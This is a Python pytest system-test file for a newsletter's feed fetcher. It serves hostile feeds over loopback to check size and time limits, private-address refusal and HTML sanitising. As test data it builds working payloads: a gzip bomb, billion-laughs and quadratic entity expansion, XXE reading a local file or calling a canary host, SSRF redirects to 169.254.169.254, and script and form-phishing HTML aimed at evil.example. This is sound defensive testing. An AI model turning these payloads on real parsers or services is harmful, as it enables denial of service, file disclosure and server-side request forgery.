"""Hostile and broken feeds, served for real over loopback HTTP: every case ends in time, with a
clear per-feed error or clean items, memory stays bounded, and nothing is fetched that the feed
asks for (a canary server on another port must never be called).

The fetches run with the address checks on (no NEWSLETTER_ALLOW_PRIVATE_ADDRESSES): the feeds'
own host 127.0.0.1 is allowed the way an intranet feed is, with ``allow_private: true`` in
feeds.yaml, which allows that host only, so a redirect to another private host is refused.
"""

from __future__ import annotations

import gzip
import os
import threading
import tracemalloc
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from sqlmodel import select

from newsletter.demo.server import FeedServer, Route
from newsletter.errors import FeedError
from newsletter.feeds import guard
from newsletter.feeds.fetch import FetchLimits, Validators, fetch_feed, make_client
from newsletter.feeds.parse import parse_feed
from newsletter.service.ingest import ingest
from newsletter.storage.db import session_scope
from newsletter.storage.models import Feed, Item
from tests.hostile_server import HostileFeedServer, HostileRoute

pytestmark = pytest.mark.slow  # a system test: `make test` runs it, `make test-fast` does not

MiB = 1024 * 1024
MEMORY_LIMIT = 50 * MiB
ZH_TITLE = "康澜生物完成2000万美元A轮融资，云岭资本领投"
HOSTILE_HTML = (
    '<p>Hi <script>alert(1)</script><img src="javascript:alert(1)" onerror="steal()">'
    '<form action="https://evil.example/login"><input type="password" name="p"></form>'
    '<a href="javascript:void(0)">js</a> <a href="https://ok.example/" onclick="x()" '
    'style="display:none">ok</a><!--[if mso]><p>outlook only</p><![endif]-->'
    '<iframe src="https://evil.example/"></iframe><svg onload="x()"></svg></p>'
)


def rss(
    items: str,
    *,
    title: str = "Feed",
    decl: str = '<?xml version="1.0" encoding="utf-8"?>',
    doctype: str = "",
) -> bytes:
    """An RSS 2.0 document around raw <item> elements."""
    return (
        f'{decl}\n{doctype}<rss version="2.0"><channel><title>{title}</title>{items}'
        "</channel></rss>"
    ).encode()


def item(title: str, guid: str, description: str = "", link: str = "") -> str:
    link_tag = f"<link>{link}</link>" if link else ""
    return (
        f"<item><title>{title}</title><guid>{guid}</guid>{link_tag}"
        f"<description>{description}</description></item>"
    )


def gzip_bomb(inflated: int = 64 * MiB) -> bytes:
    """A gzip body of ``inflated`` zero bytes, compressed in pieces (never held inflated)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    chunk = b"\0" * MiB
    parts = [compressor.compress(chunk) for _ in range(inflated // MiB)]
    return b"".join(parts) + compressor.flush()


def billion_laughs() -> bytes:
    entities = ['<!ENTITY lol "lol">']
    for n in range(1, 10):
        previous = "lol" if n == 1 else f"lol{n - 1}"
        entities.append(f'<!ENTITY lol{n} "{("&" + previous + ";") * 10}">')
    subset = "\n".join(entities)
    return rss(
        item("Laughing &lol9;", "bl-1", "&lol9;"),
        title="Laughs",
        doctype=f"<!DOCTYPE rss [\n{subset}\n]>\n",
    )


def quadratic_blowup() -> bytes:
    """One 100 KB entity referenced 500 times: 50 M characters if it were ever expanded.

    PITFALLS.md: feedparser's loose parser, used when expat gives up on the amplification, grew
    a document like this (2,000 references) to 610 MB.
    """
    subset = '<!DOCTYPE rss [\n<!ENTITY big "' + "A" * 100_000 + '">\n]>\n'
    return rss(item("Quadratic", "qb-1", "&big;" * 500), title="Quadratic", doctype=subset)


def external_entity(target: str, name: str) -> bytes:
    return rss(
        item(f"{name} &xxe;", f"{name}-1", "body &xxe;"),
        title=name,
        doctype=f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "{target}">]>\n',
    )


def external_dtd(canary: str) -> bytes:
    # No internal subset: the DOCTYPE stays, and its external DTD must still not be fetched.
    return rss(
        item("External DTD &evil;", "dtd-1", "&evil;"),
        title="DTD",
        doctype=f'<!DOCTYPE rss SYSTEM "{canary}/evil.dtd">\n',
    )


def parameter_entity(canary: str) -> bytes:
    return rss(
        item("Parameter entity", "pe-1"),
        title="PE",
        doctype=f'<!DOCTYPE rss [<!ENTITY % remote SYSTEM "{canary}/pe.dtd"> %remote;]>\n',
    )


def wrong_charset() -> bytes:
    """GBK bytes that declare UTF-8 (served with charset=utf-8 too), as Chinese sites do."""
    return (
        rss(item(ZH_TITLE, "zh-1", "医保目录调整方案发布"), title="中文资讯").decode().encode("gbk")
    )


def rss_size() -> int:
    """Resident set size of this process in bytes (Linux /proc), or 0 where unavailable."""
    try:
        with open("/proc/self/statm", encoding="ascii") as handle:
            return int(handle.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")
    except (OSError, ValueError, IndexError):
        return 0


@contextmanager
def memory_growth() -> Iterator[Callable[[], int]]:
    """Peak memory growth while the block runs: the larger of traced Python allocations and
    the process's resident size (sampled every 5 ms, so C-level buffers count too)."""
    baseline = rss_size()
    peak = [baseline]
    stop = threading.Event()

    def sample() -> None:
        while not stop.wait(0.005):
            peak[0] = max(peak[0], rss_size())

    sampler = threading.Thread(target=sample, daemon=True)
    tracemalloc.start()
    tracemalloc.reset_peak()
    sampler.start()
    result = [0]
    try:
        yield lambda: result[0]
    finally:
        stop.set()
        sampler.join()
        _, traced_peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        result[0] = max(traced_peak, peak[0] - baseline if baseline else 0)


# ---- servers ----------------------------------------------------------------------------------


@dataclass
class Servers:
    feeds: FeedServer
    canary: FeedServer
    secret_file: Path
    local_feed: Path

    @property
    def canary_url(self) -> str:
        return self.canary.base_url


@pytest.fixture(scope="module")
def servers(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Servers]:
    """The hostile feed server and a canary server that must never be called."""
    folder = tmp_path_factory.mktemp("hostile")
    secret = folder / "secret.txt"
    secret.write_text("TOP-SECRET-XXE-MARKER", encoding="utf-8")
    local_feed = folder / "local.xml"
    local_feed.write_bytes(rss(item("LOCAL SECRET FEED", "local-1"), title="Local"))
    with HostileFeedServer() as feeds, FeedServer() as canary:
        canary.routes.update(
            {
                path: Route(b"CANARY-MARKER", "text/plain")
                for path in ("/", "/xxe", "/pe.dtd", "/evil.dtd", "/private.xml")
            }
        )
        canary_url = canary.base_url
        private = f"http://localhost:{canary_url.rsplit(':', 1)[1]}/private.xml"
        feeds.routes.update(
            {
                # fetch-level
                "/bomb.xml": Route(gzip_bomb(), headers={"Content-Encoding": "gzip"}),
                "/drip.xml": HostileRoute(
                    rss(item("Drip", "d-1")), drip=1.0
                ),  # one byte per second
                "/slow-headers.xml": HostileRoute(header_drip=0.5),
                "/endless.xml": HostileRoute(b"<rss>" + b"x" * 65_536, endless=True),
                "/huge.xml": HostileRoute(
                    b"A" * MiB, repeat=100
                ),  # 100 MiB, streamed by the server
                "/loop-a.xml": Route(status=301, headers={"Location": "/loop-b.xml"}, etag=False),
                "/loop-b.xml": Route(status=302, headers={"Location": "/loop-a.xml"}, etag=False),
                "/to-private.xml": Route(status=302, headers={"Location": private}, etag=False),
                "/to-metadata.xml": Route(
                    status=307,
                    headers={"Location": "http://169.254.169.254/latest/meta-data/"},
                    etag=False,
                ),
                # document-level
                "/laughs.xml": Route(billion_laughs()),
                "/quadratic.xml": Route(quadratic_blowup()),
                "/xxe-file.xml": Route(external_entity(secret.as_uri(), "XXE file")),
                "/xxe-canary.xml": Route(external_entity(f"{canary_url}/xxe", "XXE canary")),
                "/external-dtd.xml": Route(external_dtd(canary_url)),
                "/parameter-entity.xml": Route(parameter_entity(canary_url)),
                "/local-path.xml": Route(str(local_feed).encode(), "application/xml"),
                "/html.xml": Route(
                    b"<!DOCTYPE html><html><head><title>Moved</title></head><body>"
                    b"<h1>Document moved</h1></body></html>",
                    "text/html",
                ),
                "/wrong-charset.xml": Route(wrong_charset(), "application/rss+xml; charset=utf-8"),
                "/scripts.xml": Route(
                    rss(
                        item(
                            "<script>alert(1)</script>Story with payloads",
                            "s-1",
                            f"<![CDATA[{HOSTILE_HTML}]]>",
                            "javascript:alert(document.cookie)",
                        )
                        + item(
                            "Form story",
                            "s-2",
                            "&lt;form action=&quot;https://evil.example/&quot;"
                            "&gt;&lt;input name=&quot;card&quot;&gt;&lt;/form&gt;Text stays",
                        ),
                        title="Scripts",
                    )
                ),
                "/empty.xml": Route(b""),
                # Cut off before the first item (a dropped connection): nothing to recover.
                "/truncated.xml": Route(rss(item("Whole", "t-1")).split(b"<item>")[0][:-6]),
                # the good feeds that must be stored whatever the others do
                "/good.xml": Route(
                    rss(
                        item("FDA approves first oral GLP-1 pill", "good-1")
                        + item("Medicare policy update", "good-2"),
                        title="Good",
                    )
                ),
                "/good-zh.xml": Route(
                    rss(item(ZH_TITLE, "gz-1"), title="中文")
                    .decode()
                    .encode("gb18030")
                    .replace(b'encoding="utf-8"', b'encoding="gb18030"')
                ),
            }
        )
        yield Servers(feeds, canary, secret, local_feed)


@pytest.fixture
def quiet_canary(servers: Servers) -> Iterator[Servers]:
    """The servers, with the check every test ends with: the canary was never called."""
    servers.canary.requests.clear()
    yield servers
    assert servers.canary.requests == [], "the canary server was called"


LIMITS = FetchLimits(
    timeout=2.0,
    max_bytes=10 * MiB,
    allow_private=False,
    allow_private_hosts=frozenset({"127.0.0.1"}),
    total_timeout=2.5,
)


# ---- one fetch at a time ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("/bomb.xml", "larger than the 10,485,760 byte limit (decompressed)"),
        ("/drip.xml", "time limit"),
        ("/slow-headers.xml", "time limit"),
        ("/endless.xml", "larger than the 10,485,760 byte limit"),
        ("/huge.xml", "the server announced 104,857,600 bytes"),
        ("/loop-a.xml", "redirect loop: "),
        ("/to-private.xml", "host 'localhost' resolves to non-public address"),
        ("/to-metadata.xml", "non-public address 169.254.169.254"),
    ],
    ids=lambda v: v if isinstance(v, str) and v.startswith("/") else "",
)
def test_hostile_fetch_ends_with_a_clear_error(
    quiet_canary: Servers, path: str, expected: str
) -> None:
    """Each limit that ends the fetch names itself in the error (the time each takes is in
    bench/bench_limits.py, not here: tests do not depend on the machine's speed)."""
    url = quiet_canary.feeds.url(path)
    with (
        make_client(LIMITS) as client,
        memory_growth() as growth,
        pytest.raises(FeedError) as info,
    ):
        fetch_feed(client, url, Validators(), LIMITS)
    assert expected in str(info.value)
    assert "\n" not in str(info.value) and len(str(info.value)) < 500
    assert growth() < MEMORY_LIMIT, f"{path} grew memory by {growth() / MiB:.0f} MiB"


def test_global_allow_private_reaches_the_private_redirect(quiet_canary: Servers) -> None:
    """The control for /to-private.xml: the redirect target is really reachable, so the refusal
    above is the address check, not a dead URL."""
    limits = FetchLimits(timeout=2.0, allow_private=True)
    with make_client(limits) as client:
        result = fetch_feed(client, quiet_canary.feeds.url("/to-private.xml"), Validators(), limits)
    assert result.body == b"CANARY-MARKER"
    quiet_canary.canary.requests.clear()  # expected here only


# ---- one document at a time -------------------------------------------------------------------


def parse_served(servers: Servers, path: str, language: str = "en") -> Any:
    route = servers.feeds.routes[path]
    return parse_feed(
        route.body, url=servers.feeds.url(path), content_type=route.content_type, language=language
    )


@pytest.mark.parametrize(
    "path",
    [
        "/laughs.xml",
        "/quadratic.xml",
        "/xxe-file.xml",
        "/xxe-canary.xml",
        "/external-dtd.xml",
        "/parameter-entity.xml",
    ],
)
def test_entity_documents_are_read_without_expanding_or_fetching_anything(
    quiet_canary: Servers, path: str
) -> None:
    with memory_growth() as growth:
        feed = parse_served(quiet_canary, path)
    assert growth() < MEMORY_LIMIT
    assert len(feed.entries) == 1
    entry = feed.entries[0]
    text = f"{entry.title} {entry.summary_html} {entry.summary_text}"
    assert "lollollol" not in text and "A" * 1000 not in text
    assert "TOP-SECRET-XXE-MARKER" not in text and "CANARY-MARKER" not in text
    assert len(entry.summary_html) < 20_000
    if path != "/external-dtd.xml":  # an internal subset is removed, and the feed is told so
        assert "declares a DTD with entities" in (feed.warning or "")


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("/local-path.xml", "not an RSS or Atom feed"),
        ("/html.xml", "the URL returned an HTML page"),
        ("/empty.xml", "the server sent an empty body"),
        ("/truncated.xml", "the document is truncated"),
    ],
)
def test_broken_documents_give_a_clear_error(
    quiet_canary: Servers, path: str, expected: str
) -> None:
    with pytest.raises(FeedError) as info:
        parse_served(quiet_canary, path)
    assert expected in str(info.value)
    assert "LOCAL SECRET" not in str(info.value)


def test_wrong_charset_in_a_chinese_feed_is_read_as_gb18030(quiet_canary: Servers) -> None:
    feed = parse_served(quiet_canary, "/wrong-charset.xml", language="zh")
    assert [e.title for e in feed.entries] == [ZH_TITLE]
    assert feed.entries[0].summary_text == "医保目录调整方案发布"
    assert feed.title == "中文资讯"


def test_script_and_form_payloads_come_out_clean(quiet_canary: Servers) -> None:
    feed = parse_served(quiet_canary, "/scripts.xml")
    assert len(feed.entries) == 2
    for entry in feed.entries:
        html = entry.summary_html.lower()
        for bad in (
            "<script",
            "<form",
            "<input",
            "<iframe",
            "<svg",
            "onerror",
            "onclick",
            "onload",
            "javascript:",
            "display:none",
            "outlook only",
            "<img",
        ):
            assert bad not in html, bad
        assert "<script" not in entry.title.lower()
        assert entry.url is None or entry.url.startswith("http://127.0.0.1:")  # never javascript:
    assert "https://ok.example/" in feed.entries[0].summary_html
    assert feed.entries[1].summary_text == "Text stays"


# ---- everything in one poll -------------------------------------------------------------------

HOSTILE_PATHS = [
    "/bomb.xml",
    "/drip.xml",
    "/slow-headers.xml",
    "/endless.xml",
    "/huge.xml",
    "/loop-a.xml",
    "/to-private.xml",
    "/to-metadata.xml",
    "/laughs.xml",
    "/quadratic.xml",
    "/xxe-file.xml",
    "/xxe-canary.xml",
    "/external-dtd.xml",
    "/parameter-entity.xml",
    "/local-path.xml",
    "/html.xml",
    "/wrong-charset.xml",
    "/scripts.xml",
    "/empty.xml",
    "/truncated.xml",
]
EXPECTED_ERRORS = {
    "/bomb.xml": "byte limit (decompressed)",
    "/drip.xml": "time limit",
    "/slow-headers.xml": "time limit",
    "/endless.xml": "byte limit",
    "/huge.xml": "byte limit",
    "/loop-a.xml": "redirect loop",
    "/to-private.xml": "non-public address",
    "/to-metadata.xml": "non-public address",
    "/local-path.xml": "not an RSS or Atom feed",
    "/html.xml": "HTML page",
    "/empty.xml": "empty body",
    "/truncated.xml": "truncated",
}


def test_one_poll_of_every_hostile_feed_stores_the_good_ones(
    quiet_canary: Servers, make_app: Any
) -> None:
    server = quiet_canary.feeds
    feeds = [
        {
            "name": path,
            "url": server.url(path),
            "section": "headlines",
            "allow_private": True,
            "language": "zh" if "charset" in path or "zh" in path else "en",
        }
        for path in [*HOSTILE_PATHS, "/good.xml", "/good-zh.xml"]
    ]
    # Address checks on; parsing in this process so its memory is measured too.
    app = make_app(
        feeds=feeds,
        allow_private_addresses=False,
        fetch_timeout=1.5,
        parse_workers=1,
        fetch_concurrency=len(feeds),
    )
    # What any poll loads once per process (the reading model, and the parser and detectors,
    # which ingest imports where parsing runs) is loaded before measuring: the limit is for
    # what the hostile feeds make the poll hold.
    import newsletter.domain.editorial.classify  # noqa: F401
    from newsletter.service.reading import checked_model, model_path

    path = model_path(app)
    if path is not None:
        checked_model(path)
    with memory_growth() as growth:
        report = ingest(app)
    assert growth() < MEMORY_LIMIT, f"the poll grew memory by {growth() / MiB:.0f} MiB"

    outcomes = {o.name: o for o in report.outcomes}
    assert sorted(outcomes) == sorted(f["name"] for f in feeds)
    for path, expected in EXPECTED_ERRORS.items():
        outcome = outcomes[path]
        assert outcome.status == "error", (path, outcome)
        assert expected in (outcome.error or ""), (path, outcome.error)
        assert "\n" not in (outcome.error or "") and len(outcome.error or "") < 600
    for path in set(HOSTILE_PATHS) - set(EXPECTED_ERRORS):
        assert outcomes[path].status == "ok" and outcomes[path].new_items >= 1, outcomes[path]

    with session_scope(app.engine) as session:
        rows = session.exec(select(Item, Feed).join(Feed)).all()
        titles = {feed.name: [] for feed in session.exec(select(Feed)).all()}
        stored = []
        for row_item, row_feed in rows:
            titles[row_feed.name].append(row_item.title)
            stored.append(f"{row_item.title} {row_item.summary_html} {row_item.summary_text}")
    assert sorted(titles["/good.xml"]) == [
        "FDA approves first oral GLP-1 pill",
        "Medicare policy update",
    ]
    assert titles["/good-zh.xml"] == [ZH_TITLE]
    assert titles["/wrong-charset.xml"] == [ZH_TITLE]
    everything = " ".join(stored).lower()
    for marker in (
        "top-secret-xxe-marker",
        "canary-marker",
        "local secret feed",
        "<script",
        "<form",
        "javascript:",
        "lollollol",
        "a" * 1000,
    ):
        assert marker not in everything, marker


# ---- the transport checks the address it connects to -----------------------------------------


def test_transport_refuses_a_host_that_rebinds_to_a_private_address(
    quiet_canary: Servers, monkeypatch: pytest.MonkeyPatch
) -> None:
    """DNS answers a public address to the pre-check and loopback to the connection (DNS
    rebinding): the connection is refused, and the server on loopback never sees a request."""
    answers = iter([["93.184.216.34"], ["127.0.0.1"]])
    monkeypatch.setattr(guard, "resolve_host", lambda host, port: next(answers))
    port = quiet_canary.canary_url.rsplit(":", 1)[1]
    limits = FetchLimits(timeout=2.0)
    with make_client(limits) as client, pytest.raises(FeedError) as info:
        fetch_feed(client, f"http://rebind.example:{port}/private.xml", Validators(), limits)
    assert str(info.value).startswith(
        "host 'rebind.example' resolves to non-public address 127.0.0.1"
    )


def test_transport_connects_to_the_address_it_checked(
    servers: Servers, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The transport resolves the name itself and connects to that IP, keeping the Host header
    (the name does not exist in DNS: only the transport's own answer can reach the server)."""
    resolved: list[str] = []

    def resolve(host: str, port: int) -> list[str]:
        resolved.append(host)
        return ["127.0.0.1"]

    monkeypatch.setattr(guard, "resolve_host", resolve)
    monkeypatch.setattr(guard, "is_public_address", lambda address: True)
    port = servers.feeds.base_url.rsplit(":", 1)[1]
    servers.feeds.requests.clear()
    limits = FetchLimits(timeout=2.0)
    with make_client(limits) as client:
        result = fetch_feed(client, f"http://feed.invalid:{port}/good.xml", Validators(), limits)
    assert result.status == 200 and b"GLP-1" in (result.body or b"")
    assert resolved == ["feed.invalid", "feed.invalid"]  # the pre-check, then the connection
    ((path, headers),) = servers.feeds.requests
    assert path == "/good.xml" and headers["host"] == f"feed.invalid:{port}"


def test_gzip_helper_is_a_real_bomb() -> None:
    bomb = gzip_bomb(16 * MiB)
    assert len(bomb) < 100_000 and len(gzip.decompress(bomb)) == 16 * MiB
